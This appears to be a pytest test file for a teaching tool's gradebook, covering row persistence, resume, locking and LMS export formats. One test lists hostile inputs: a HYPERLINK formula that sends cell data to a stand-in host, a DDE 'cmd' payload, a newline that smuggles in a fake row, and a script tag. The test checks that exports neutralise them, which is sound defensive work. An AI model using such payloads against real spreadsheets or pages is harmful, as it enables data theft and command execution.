"""The gradebook keeps every finished row: written one by one, resumed, locked, never mixed."""

from __future__ import annotations

import csv
import json
import os
from pathlib import Path

import pytest

from uio_teach import folders
from uio_teach.grading import grade
from uio_teach.grading.gradebook import Gradebook, GradebookBusy, Submission
from uio_teach.grading.lab_checks import lab_checks

IDS = ("pa9.design", "pa9.plot")


def rows(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def sub(file: str, passed: bool = True) -> Submission:
    return Submission(
        file,
        "pa9",
        "g01",
        "ok",
        results={"pa9.design": {"passed": passed, "title": "design", "items": []}},
        expected=IDS,
    )


def test_each_row_is_on_disk_as_soon_as_it_is_added(tmp_path):
    out = tmp_path / "grades.csv"
    with Gradebook(out, ["a.ipynb", "b.ipynb"], IDS) as book:
        book.add(sub("b.ipynb"))
        # another reader sees the row now, before the run ends
        assert [r["file"] for r in rows(out)] == ["b.ipynb"]
        assert (tmp_path / "grades_feedback" / "b.txt").is_file()
        book.add(sub("a.ipynb", passed=False))
    table = rows(out)
    assert [r["file"] for r in table] == ["a.ipynb", "b.ipynb"]  # the order given
    assert [r["pa9.design"] for r in table] == [grade.FAIL, grade.PASS]
    manifest = folders.read_manifest(tmp_path / "grades_feedback")
    assert manifest["command"] == "uio-teach grade"
    assert sorted(f["name"] for f in manifest["files"]) == ["a.html", "a.txt", "b.html", "b.txt"]
    # without a roster no group can be matched to a student: no Canvas import at all
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "grades.csv",
        "grades_feedback",
        "grades_groups.csv",
    ]


def test_an_interrupted_run_keeps_its_rows_and_resume_skips_them(tmp_path):
    out = tmp_path / "grades.csv"
    files = ["a.ipynb", "b.ipynb", "c.ipynb"]
    with pytest.raises(KeyboardInterrupt):
        with Gradebook(out, files, IDS) as book:
            book.add(sub("a.ipynb"))
            raise KeyboardInterrupt
    assert [r["file"] for r in rows(out)] == ["a.ipynb"]
    with open(out, "a", encoding="utf-8") as fh:  # a row cut short by a kill
        fh.write("b.ipynb,pa9,g0")
    with Gradebook(out, files, IDS, resume=True) as book:
        assert sorted(book.done) == ["a.ipynb"]  # the cut row is graded again
        book.add(sub("c.ipynb"))
        book.add(sub("b.ipynb"))
    assert [r["file"] for r in rows(out)] == files
    assert not (tmp_path / ".grades.csv.lock").exists()


def test_a_fresh_run_starts_a_new_gradebook(tmp_path):
    out = tmp_path / "grades.csv"
    with Gradebook(out, ["a.ipynb"], IDS) as book:
        book.add(sub("a.ipynb"))
    with Gradebook(out, ["z.ipynb"], IDS) as book:
        book.add(sub("z.ipynb"))
    assert [r["file"] for r in rows(out)] == ["z.ipynb"]
    folder = tmp_path / "grades_feedback"
    assert sorted(p.name for p in folder.iterdir()) == ["manifest.json", "z.html", "z.txt"]


def test_a_second_run_into_the_same_gradebook_is_refused(tmp_path):
    out = tmp_path / "grades.csv"
    with Gradebook(out, ["a.ipynb"], IDS) as book:
        with pytest.raises(GradebookBusy, match="another grading run"):
            Gradebook(out, ["a.ipynb"], IDS, resume=True).__enter__()
        book.add(sub("a.ipynb"))
    assert [r["file"] for r in rows(out)] == ["a.ipynb"]


def test_resume_widens_the_columns_for_a_new_lab(tmp_path):
    out = tmp_path / "grades.csv"
    with Gradebook(out, ["a.ipynb"], ["pa9.design"]) as book:
        book.add(sub("a.ipynb"))
    with Gradebook(out, ["a.ipynb", "m.ipynb"], ["missile.pmo"], resume=True) as book:
        m = Submission("m.ipynb", "missile", "g01", "ok", expected=("missile.pmo",))
        book.add(m)
    table = rows(out)
    assert list(table[0]) == [
        "file",
        "lab",
        "group",
        "status",
        "reason",
        "pa9.design",
        "missile.pmo",
        "total",
        "out_of",
        "late",
    ]
    assert [(r["pa9.design"], r["missile.pmo"]) for r in table] == [
        (grade.PASS, ""),
        ("", grade.FAIL),
    ]


@pytest.mark.parametrize("content", ["someone's notes", "figures"])
def test_a_folder_that_is_not_earlier_feedback_is_left_alone(tmp_path, content):
    out = tmp_path / "grades.csv"
    folder = tmp_path / "grades_feedback"
    folder.mkdir()
    if content == "figures":
        (folder / "a.png").write_bytes(b"png")
        folders.write_manifest(folder, command="uio-teach figures", config={})
    else:
        (folder / "notes.txt").write_text("mine")
    before = sorted(p.name for p in folder.iterdir())
    with pytest.raises(folders.OutputError, match="left alone"):
        grade.grade([tmp_path / "x.ipynb"], out, sandbox=False)
    assert not out.exists() and sorted(p.name for p in folder.iterdir()) == before


def test_a_csv_that_is_not_a_gradebook_is_not_resumed_over(tmp_path):
    out = tmp_path / "grades.csv"
    out.write_text("name,mark\nann,5\n")
    with pytest.raises(folders.OutputError, match="not a gradebook"):
        Gradebook(out, ["a.ipynb"], IDS, resume=True).__enter__()
    assert out.read_text() == "name,mark\nann,5\n"


def test_leftovers_of_killed_runs_are_removed_and_live_ones_kept(tmp_path):
    dead = tmp_path / f"{grade.TEMP_PREFIX}dead"
    live = tmp_path / f"{grade.TEMP_PREFIX}live"
    stranger = tmp_path / f"{grade.TEMP_PREFIX}stranger"
    for folder in (dead, live, stranger):
        (folder / "0001" / "work").mkdir(parents=True)
    (dead / "owner.json").write_text(json.dumps({"pid": os.getpid(), "start": "not-now"}))
    me = Path(f"/proc/{os.getpid()}/stat").read_text().rsplit(")", 1)[1].split()[19]
    (live / "owner.json").write_text(json.dumps({"pid": os.getpid(), "start": me}))
    locked = dead / "0001" / "work" / "locked"
    locked.mkdir()
    (locked / "f").write_text("x")
    locked.chmod(0o500)  # a submission may leave a folder it cannot write
    assert grade.clean_leftovers(tmp_path) == [dead]
    assert sorted(p.name for p in tmp_path.iterdir()) == [live.name, stranger.name]


def test_unreadable_submissions_are_graded_without_a_kernel(tmp_path):
    paths = []
    for name in ("pa9_g01", "pa9_g02"):
        path = tmp_path / f"{name}.ipynb"
        path.write_text("{ not a notebook")
        paths.append(path)
    out = tmp_path / "grades.csv"
    with pytest.warns(grade.UnsandboxedWarning, match="WITHOUT a sandbox"):
        graded = grade.grade(paths, out, sandbox=False)
    assert [s.status for s in graded] == ["unreadable", "unreadable"]
    table = rows(out)
    assert [(r["group"], r["total"], r["out_of"]) for r in table] == [
        ("g01", "0", str(len(lab_checks("pa9").checks))),
        ("g02", "0", str(len(lab_checks("pa9").checks))),
    ]
    text = (tmp_path / "grades_feedback" / "pa9_g01.txt").read_text(encoding="utf-8")
    assert "not a notebook" in text


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "g01\nfake,row,ok,✓",
    "tab\there\r",
    "\u2028line",
    "<script>alert(1)</script>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_of_any_export_is_a_formula_or_breaks_a_line(tmp_path, text):
    out = tmp_path / "grades.csv"
    file = f"{text.replace('/', '_')}.ipynb"  # a file name has no slash
    bad = Submission(file, "pa9", text, "check by hand", reason=text, expected=IDS)
    bad.errors.append(text)
    with Gradebook(out, [file], IDS, students={text: [(text, text)]}) as book:
        book.add(bad)
    for path in (out, tmp_path / "grades_groups.csv", tmp_path / "grades_canvas.csv"):
        raw = path.read_text(encoding="utf-8")
        with open(path, newline="", encoding="utf-8") as fh:
            table = list(csv.reader(fh))
        assert len(raw.splitlines()) == len(table)  # no line added by a cell
        for row in table:
            for cell in row:
                assert not any(ord(c) < 32 or c in "\x7f\u2028\u2029" for c in cell), cell
                if cell and cell[0] in "=+-@":
                    float(cell)  # only a number may start so
    page = bad.feedback_file.with_suffix(".html").read_text(encoding="utf-8")
    assert "<script>" not in page and "<h1>" in page  # every text escaped


def test_numbers_stay_numbers_and_the_lms_exports_follow_the_rows(tmp_path):
    out = tmp_path / "grades.csv"
    subs = [
        Submission(
            "pa9_g01.ipynb",
            "pa9",
            "g01",
            "ok",
            expected=IDS,
            results={"pa9.design": {"passed": True, "items": []}},
        ),
        Submission(
            "pa9_g02.ipynb",
            "pa9",
            "g02",
            "check by hand",
            reason="copied",
            expected=IDS,
            results={"pa9.design": {"passed": True, "items": []}},
        ),
        Submission("pa9_g03.ipynb", "pa9", "g03", "error", expected=IDS),
    ]
    students = {"g01": [("s1", "Ann"), ("s2", "Bo")], "g03": [("s3", "Cy")]}
    with Gradebook(out, [s.file for s in subs], IDS, students=students) as book:
        for s in subs:
            book.add(s)
    assert [r["total"] for r in rows(out)] == ["1", "1", "0"]
    groups = rows(tmp_path / "grades_groups.csv")
    # a row that needs a look exports no mark: it is not imported before someone looks
    assert [(g["group"], g["total"], g["out_of"]) for g in groups] == [
        ("g01", "1", "2"),
        ("g02", "", "2"),
        ("g03", "0", "2"),
    ]
    with open(tmp_path / "grades_canvas.csv", newline="", encoding="utf-8") as fh:
        canvas = list(csv.reader(fh))
    assert canvas[0][:5] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
    assert canvas[1] == ["Points Possible", "", "", "", "", "2"]
    assert [(r[0], r[2], r[4], r[5]) for r in canvas[2:]] == [
        ("Ann", "s1", "g01", "1"),
        ("Bo", "s2", "g01", "1"),
        # g02 has no student in the roster: no row Canvas could not match
        ("Cy", "s3", "g03", "0"),
    ]


def test_the_late_flag_is_a_column_of_its_own(tmp_path):
    out = tmp_path / "grades.csv"
    late = Submission("ann_LATE_1_2_pa9_g01.ipynb", "pa9", "g01", "ok", late=True)
    on_time = Submission("pa9_g02.ipynb", "pa9", "g02", "ok")
    with Gradebook(out, [late.file, on_time.file], IDS) as book:
        book.add(late)
        book.add(on_time)
    assert [(r["file"], r["late"]) for r in rows(out)] == [
        ("ann_LATE_1_2_pa9_g01.ipynb", "late"),
        ("pa9_g02.ipynb", ""),
    ]


def test_two_names_that_differ_only_in_their_normal_form_never_share_a_cell(tmp_path):
    composed, decomposed = "Jos\u00e9_pa9_g01.ipynb", "Jose\u0301_pa9_g01.ipynb"
    out = tmp_path / "grades.csv"
    with Gradebook(out, [composed, decomposed], IDS) as book:
        book.add(sub(composed))
        book.add(sub(decomposed))
    cells = [r["file"] for r in rows(out)]
    assert cells == [composed, "Jose\\u0301_pa9_g01.ipynb"]
    with Gradebook(out, [composed, decomposed], IDS, resume=True) as book:
        assert book.prior() == {composed, decomposed}  # each kept as its own row


def test_moodle_s_grade_import_is_written_beside_canvas_s_from_a_moodle_roster(tmp_path):
    roster = tmp_path / "participants.csv"
    roster.write_text(
        "First name,Last name,ID number,Email address,Groups\n"
        "Ann,Example,u101,ann@example.org,Group 1\n"
        "Bo,Example,u102,bo@example.org,Group 2\n",
        encoding="utf-8-sig",
    )
    _, students = grade.read_roster(roster)
    out = tmp_path / "grades.csv"
    with Gradebook(out, ["pa9_g01.ipynb", "pa9_g02.ipynb"], IDS, students=students) as book:
        book.add(sub("pa9_g01.ipynb"))
        book.add(Submission("pa9_g02.ipynb", "pa9", "g02", "ok", expected=IDS))
    with open(tmp_path / "grades_moodle.csv", newline="", encoding="utf-8") as fh:
        table = list(csv.reader(fh))
    assert table == [
        ["ID number", "Full name", "Group", "pa9 (uio-teach)"],
        ["u101", "Ann Example", "g01", "1"],
        ["u102", "Bo Example", "g02", "0"],
    ]
    assert (tmp_path / "grades_canvas.csv").is_file()
